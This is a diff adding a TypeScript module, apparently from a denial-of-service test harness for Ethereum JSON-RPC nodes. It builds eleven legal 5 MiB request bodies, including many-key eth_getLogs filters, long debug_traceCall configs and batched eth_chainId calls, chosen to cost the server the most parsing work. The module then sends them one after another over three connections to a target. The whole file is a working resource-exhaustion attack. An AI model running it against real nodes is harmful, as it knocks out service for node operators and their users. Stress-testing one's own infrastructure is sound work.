@@ -1,0 +1,49 @@
+import type { Attack } from "./attack.ts";
+import { asMany, callOf, poster } from "./attacker.ts";
+
+const bodyBytes = 5_242_880;
+const connections = 3;
+
+/** Repeats a piece, with its number, as often as fits in a body beside what stands around it. */
+function filled(before: string, piece: (at: number) => string, after: string): Buffer {
+  const parts: string[] = [];
+  let size = before.length + after.length;
+  for (let at = 0; ; at += 1) {
+    const part = `${at === 0 ? "" : ","}${piece(at)}`;
+    size += part.length;
+    if (size > bodyBytes) break;
+    parts.push(part);
+  }
+  return Buffer.from(before + parts.join("") + after);
+}
+
+const call = (method: string) => `{"jsonrpc":"2.0","id":1,"method":"${method}","params":`;
+
+/** Legal JSON of 5 MiB under one method name each, of the shapes that cost most to read. */
+function bodies(): readonly Buffer[] {
+  return [
+    filled(`${call("eth_call")}[`, () => "{}", "]}"),
+    filled(`${call("eth_getLogs")}[{`, (at) => `"k${at}":0`, "}]}"),
+    filled(`${call("eth_getLogs")}[{"topics":[`, () => "null", "]}]}"),
+    filled(`${call("eth_getLogs")}[{"address":[`, (at) => `"0x${at.toString(16).padStart(40, "0")}"`, "]}]}"),
+    filled(`${call("debug_traceTransaction")}["0x${"1".repeat(64)}",{`, (at) => `"k${at}":0`, "}]}"),
+    filled(`${call("debug_traceCall")}[{},"latest",{"tracerConfig":{`, (at) => `"k${at}":0`, "}}]}"),
+    filled(`${call("trace_filter")}[{`, (at) => `"k${at}":[]`, "}]}"),
+    filled(`${call("eth_call")}[`, () => `"${String.raw`\u0000`.repeat(64)}"`, "]}"),
+    filled(`${call("eth_feeHistory")}["0x1","latest",[`, (at) => String(at % 100), "]]}"),
+    filled("[", (at) => callOf(at, "eth_chainId", "[]"), "]"),
+    filled('{"jsonrpc":"2.0","id":1,"method":"eth_chainId",', (at) => `"k${at}":0`, "}"),
+  ];
+}
+
+/** Large messages, over few connections, each sent when the one before is answered. */
+export const largeMessages: Attack = {
+  name: "large messages",
+  what: `${connections} connections from 1 address with 5 MiB of legal JSON under one method name, one after the other`,
+  run: async (target, signal) => {
+    const all = bodies();
+    const post = poster(target, signal, 1);
+    let sent = 0;
+    await asMany(connections, signal, (connection) => post(connection, all[(sent += 1) % all.length] ?? ""));
+  },
+};
